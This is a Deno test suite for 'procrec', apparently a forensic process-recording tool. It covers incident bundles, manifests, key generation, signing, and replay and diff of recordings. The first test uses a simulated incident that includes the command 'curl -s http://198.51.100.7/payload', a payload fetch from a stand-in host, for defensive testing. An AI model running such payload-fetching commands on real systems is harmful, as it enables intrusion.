/**
 * `procrec bundle create`, `keygen`, and bundles as replay/diff input,
 * through the real command line.
 */
import { createHash } from "node:crypto";
import {
  FORMAT_VERSION,
  RecordingReader,
  RecordingWriter,
} from "../cli/log/mod.ts";
import type { Manifest } from "../cli/bundle/mod.ts";
import { toHex } from "../cli/log/_hash.ts";
import {
  bundleCreate,
  fixtureRecordings,
  incidentEvents,
  inTempDir,
  procrec,
  unzip,
  writeIncident,
} from "./_bundle_helpers.ts";
import { testHeader } from "./_recording_helpers.ts";
import { pathExists } from "../cli/path_exists.ts";
import { assert, assertEquals } from "./_record_helpers.ts";

const sha = (b: Uint8Array) => createHash("sha256").update(b).digest("hex");
const text = (b: Uint8Array | undefined) => new TextDecoder().decode(b);

Deno.test("bundle create keeps recordings unchanged and pins every member in manifest.json", async () => {
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/incident.cbor`);
    await writeIncident(`${dir}/baseline.cbor`, incidentEvents(1));
    const r = await bundleCreate(`${dir}/case.zip`, [
      `${dir}/incident.cbor`,
      `${dir}/baseline.cbor`,
      "--case",
      "IR-42",
      "--examiner",
      "A. Responder",
      "--note",
      "host web-3",
    ]);
    assertEquals(r.code, 0, r.stderr);
    const files = await unzip(`${dir}/case.zip`);
    assertEquals([...files.keys()].sort(), [
      "manifest.json",
      "recordings/baseline.cbor",
      "recordings/incident.cbor",
      "report.html",
      "summary.txt",
    ]);
    for (const name of ["incident", "baseline"]) {
      const loose = await Deno.readFile(`${dir}/${name}.cbor`);
      assertEquals(
        sha(files.get(`recordings/${name}.cbor`)!),
        sha(loose),
        `${name} unchanged`,
      );
    }
    const m = JSON.parse(text(files.get("manifest.json"))) as Manifest;
    assertEquals(m.format, "procrec-bundle");
    assertEquals(m.case, {
      id: "IR-42",
      examiner: "A. Responder",
      note: "host web-3",
    });
    assertEquals(m.tool.name, "procrec");
    assertEquals(m.recordingFormat, FORMAT_VERSION);
    assert(!isNaN(Date.parse(m.created)), `created ${m.created}`);
    for (const mem of m.members) {
      const bytes = files.get(mem.name)!;
      assertEquals(
        [mem.size, mem.sha256],
        [bytes.length, sha(bytes)],
        mem.name,
      );
    }
    const rec = m.recordings.find((x) =>
      x.member === "recordings/incident.cbor"
    )!;
    const reader = await RecordingReader.open(`${dir}/incident.cbor`);
    for await (const _ of reader.chunks()) { /* read to the trailer */ }
    assertEquals(rec.finalHash, toHex(reader.report.trailer!.finalHash));
    assertEquals(
      [rec.host, rec.os, rec.kernel, rec.bootId],
      [
        "testhost",
        "linux",
        "6.18.0-test",
        "00000000-0000-4000-8000-000000000001",
      ],
    );
    // time base 1_790_000_000 s after the epoch
    assertEquals(rec.timeRange.start, "2026-09-21T14:13:20.000000000Z");
    assertEquals(rec.timeRange.endFrom, "trailer");
    assertEquals(rec.counts.process_create, 8);
    assertEquals(rec.counts.lost, 1);
    assertEquals(rec.lost, { ring_full: 5 });
    assertEquals([rec.complete, rec.chainIntact, rec.events], [true, true, 28]);
    const summary = text(files.get("summary.txt"));
    assert(summary.includes("case: IR-42"), summary);
    assert(summary.includes("curl -s http://198.51.100.7/payload"), summary);
    assert(summary.includes("failures: "), summary);
    const html = text(files.get("report.html"));
    assert(
      html.startsWith("<!DOCTYPE html>") && html.includes("IR-42"),
      "report",
    );
    assert(
      !/<script[^>]+src=|<link[^>]+href=|https?:\/\/(?!198\.51|203\.0)/.test(
        html,
      ),
      "no external resource",
    );
  });
});

Deno.test("bundle create refuses to replace a file and to bundle two recordings of one name", async () => {
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/a.cbor`);
    await Deno.mkdir(`${dir}/x`);
    await writeIncident(`${dir}/x/a.cbor`);
    let r = await bundleCreate(`${dir}/c.zip`, [
      `${dir}/a.cbor`,
      `${dir}/x/a.cbor`,
    ]);
    assertEquals(r.code, 2);
    assert(r.stderr.includes("would both be recordings/a.cbor"), r.stderr);
    await Deno.writeTextFile(`${dir}/c.zip`, "keep me");
    r = await bundleCreate(`${dir}/c.zip`, [`${dir}/a.cbor`]);
    assertEquals(r.code, 2);
    assertEquals(await Deno.readTextFile(`${dir}/c.zip`), "keep me");
    r = await bundleCreate(`${dir}/d.zip`, [`${dir}/c.zip`]);
    assertEquals(r.code, 2);
    assert(r.stderr.includes("not a procrec recording"), r.stderr);
  });
});

Deno.test("keygen writes a 0600 private key and a public key, and never overwrites", async () => {
  await inTempDir(async (dir) => {
    const r = await procrec(["keygen", "-o", `${dir}/k`]);
    assertEquals(r.code, 0, r.stderr);
    assertEquals((await Deno.stat(`${dir}/k`)).mode! & 0o777, 0o600);
    const priv = await Deno.readTextFile(`${dir}/k`);
    const pub = await Deno.readTextFile(`${dir}/k.pub`);
    assert(priv.startsWith("-----BEGIN PRIVATE KEY-----"), priv);
    assert(pub.startsWith("-----BEGIN PUBLIC KEY-----"), pub);
    assert(/fingerprint: SHA256:[0-9a-f]{64}/.test(r.stdout), r.stdout);
    const again = await procrec(["keygen", "-o", `${dir}/k`]);
    assertEquals(again.code, 2);
    assert(again.stderr.includes("exists"), again.stderr);
    assertEquals(await Deno.readTextFile(`${dir}/k`), priv);
    // the public file alone existing also stops it
    await Deno.writeTextFile(`${dir}/j.pub`, "x");
    assertEquals((await procrec(["keygen", "-o", `${dir}/j`])).code, 2);
    await Deno.stat(`${dir}/j`).then(
      () => {
        throw new Error("j was written");
      },
      () => {},
    );
  });
});

Deno.test("a bundle replays and diffs exactly like its loose recordings", async () => {
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/a.cbor`);
    await writeIncident(`${dir}/b.cbor`, incidentEvents(1));
    for (
      const [zip, recs] of [["one-a.zip", ["a.cbor"]], ["one-b.zip", [
        "b.cbor",
      ]], ["both.zip", ["a.cbor", "b.cbor"]]] as const
    ) {
      const r = await bundleCreate(zip, recs, dir);
      assertEquals(r.code, 0, r.stderr);
    }
    const same = async (loose: string[], bundled: string[]) => {
      const a = await procrec(loose, { cwd: dir });
      const b = await procrec(bundled, { cwd: dir });
      assertEquals(
        [b.code, b.stdout],
        [a.code, a.stdout],
        `${bundled.join(" ")} vs ${loose.join(" ")}\n${b.stderr}`,
      );
      return a;
    };
    const tree = await same(["replay", "a.cbor"], ["replay", "one-a.zip"]);
    assert(tree.stdout.includes("curl"), tree.stdout);
    await same(["replay", "a.cbor", "--summary"], [
      "replay",
      "one-a.zip",
      "--summary",
    ]);
    await same(["replay", "a.cbor", "--image", "curl"], [
      "replay",
      "both.zip#a.cbor",
      "--image",
      "curl",
    ]);
    // a diff names its inputs as given on its first two lines; the rest is the same
    const sameDiff = async (loose: string[], bundled: string[]) => {
      const a = await procrec(["replay", "--diff", ...loose], { cwd: dir });
      const b = await procrec(["replay", "--diff", ...bundled], { cwd: dir });
      const body = (s: string) => s.split("\n").slice(2).join("\n");
      assertEquals(
        [b.code, body(b.stdout)],
        [a.code, body(a.stdout)],
        `${bundled} vs ${loose}\n${b.stderr}`,
      );
      assert(
        b.stdout === "no differences\n" ||
          b.stdout.startsWith(`--- ${bundled[0]}\n+++ ${bundled[1]}\n`),
        b.stdout,
      );
      return a;
    };
    const d = await sameDiff(["a.cbor", "b.cbor"], ["one-a.zip", "one-b.zip"]);
    assertEquals(d.code, 1, "the two recordings differ");
    assert(d.stdout.includes("203.0.113.9"), d.stdout);
    await sameDiff(["a.cbor", "b.cbor"], [
      "both.zip#a.cbor",
      "both.zip#recordings/b.cbor",
    ]);
    const s = await sameDiff(["a.cbor", "a.cbor"], ["a.cbor", "one-a.zip"]);
    assertEquals(s.code, 0, "a recording and its bundle do not differ");
    const viaDiff = await procrec(["diff", "a.cbor", "one-b.zip"], {
      cwd: dir,
    });
    assertEquals(viaDiff.code, 1, viaDiff.stderr);
    // JSON: the same forest; only the input's name differs
    const ja = JSON.parse(
      (await procrec(["replay", "a.cbor", "--json"], { cwd: dir })).stdout,
    );
    const jb = JSON.parse(
      (await procrec(["replay", "one-a.zip", "--json"], { cwd: dir })).stdout,
    );
    assertEquals(jb.recording, "one-a.zip#a.cbor");
    for (const j of [ja, jb]) {
      delete j.recording;
      delete j.report.name;
    }
    assertEquals(jb, ja);
    // several recordings and no choice: a clear error naming them
    const many = await procrec(["replay", "both.zip"], { cwd: dir });
    assertEquals(many.code, 2);
    assert(
      many.stderr.includes("a.cbor, b.cbor") && many.stderr.includes("#NAME"),
      many.stderr,
    );
    const none = await procrec(["replay", "both.zip#c.cbor"], { cwd: dir });
    assertEquals(none.code, 2);
    assert(none.stderr.includes(`no recording "c.cbor"`), none.stderr);
  });
});

Deno.test("an incomplete recording is bundled as is and reported", async () => {
  await inTempDir(async (dir) => {
    const w = await RecordingWriter.create(`${dir}/crash.cbor`, testHeader(), {
      chunkEvents: 4,
      flushIntervalMs: 0,
    });
    for (const e of incidentEvents()) w.write(e);
    w.abandon();
    await Deno.rename(`${dir}/crash.cbor.incomplete`, `${dir}/crash.cbor`);
    const r = await bundleCreate(`${dir}/c.zip`, [`${dir}/crash.cbor`]);
    assertEquals(r.code, 0, r.stderr);
    assert(r.stderr.includes("incomplete"), r.stderr);
    const m = JSON.parse(
      text((await unzip(`${dir}/c.zip`)).get("manifest.json")),
    ) as Manifest;
    assertEquals([
      m.recordings[0].complete,
      m.recordings[0].finalHash,
      m.recordings[0].timeRange.endFrom,
    ], [false, null, "last event"]);
    const v = await procrec(["verify", `${dir}/c.zip`]);
    assertEquals(v.code, 1, v.stdout);
    assert(v.stdout.includes("INCOMPLETE [recordings/crash.cbor"), v.stdout);
  });
});

const FIX = new URL("../fixtures/", import.meta.url).pathname;

Deno.test("bundle create --sign refuses a private key others can read, naming its mode (found by review)", async () => {
  await inTempDir(async (dir) => {
    assertEquals((await procrec(["keygen", "-o", `${dir}/k`])).code, 0);
    await Deno.chmod(`${dir}/k`, 0o644);
    const b = await bundleCreate(`${dir}/b.zip`, [
      "--sign",
      `${dir}/k`,
      `${FIX}${(await fixtureRecordings())[0]}`,
    ]);
    assertEquals(b.code, 2, b.stderr);
    assert(
      b.stderr.includes(
        `private key "${dir}/k": others can read it (mode 0644)`,
      ),
      b.stderr,
    );
    assert(!(await pathExists(`${dir}/b.zip`)), "a bundle was written");
    await Deno.chmod(`${dir}/k`, 0o600);
    const ok = await bundleCreate(`${dir}/b.zip`, [
      "--sign",
      `${dir}/k`,
      `${FIX}${(await fixtureRecordings())[0]}`,
    ]);
    assertEquals(ok.code, 0, ok.stderr);
  });
});

Deno.test("the golden fixtures, bundled and signed, verify intact and replay to their golden outputs", async () => {
  const names = await fixtureRecordings();
  assert(names.length >= 8, `fixtures/ holds ${names.length} recordings`);
  await inTempDir(async (dir) => {
    assertEquals((await procrec(["keygen", "-o", `${dir}/k`])).code, 0);
    const b = await bundleCreate(`${dir}/fixtures.zip`, [
      "--sign",
      `${dir}/k`,
      ...names.map((n) => `${FIX}${n}`),
    ]);
    assertEquals(b.code, 0, b.stderr);
    const v = await procrec([
      "verify",
      `${dir}/fixtures.zip`,
      "--key",
      `${dir}/k.pub`,
    ]);
    assertEquals(v.code, 0, v.stdout);
    const summary = text(
      (await unzip(`${dir}/fixtures.zip`)).get("summary.txt"),
    );
    for (const n of names) {
      const base = n.replace(/\.cbor$/, "");
      const tree = await Deno.readTextFile(`${FIX}${base}.tree.txt`);
      const r = await procrec(["replay", `${dir}/fixtures.zip#${n}`]);
      assertEquals([r.code, r.stdout], [0, tree], `${n} tree\n${r.stderr}`);
      const s = await procrec([
        "replay",
        `${dir}/fixtures.zip#${n}`,
        "--summary",
      ]);
      assertEquals(
        s.stdout,
        await Deno.readTextFile(`${FIX}${base}.summary.txt`),
        `${n} summary`,
      );
      assert(summary.includes(tree), `summary.txt holds the tree of ${n}`);
    }
    for await (const e of Deno.readDir(FIX)) {
      const m = e.name.match(/^(.+)_vs_(.+)\.diff\.txt$/);
      if (!m) continue;
      const golden = await Deno.readTextFile(`${FIX}${e.name}`);
      const d = await procrec([
        "replay",
        "--diff",
        `${dir}/fixtures.zip#${m[1]}.cbor`,
        `${dir}/fixtures.zip#${m[2]}.cbor`,
      ]);
      const body = (t: string) => t.split("\n").slice(2).join("\n");
      assertEquals(body(d.stdout), body(golden), e.name);
      const loose = await procrec([
        "replay",
        "--diff",
        `${FIX}${m[1]}.cbor`,
        `${FIX}${m[2]}.cbor`,
      ]);
      assertEquals(d.code, loose.code, `${e.name}: exit status`);
    }
  });
});
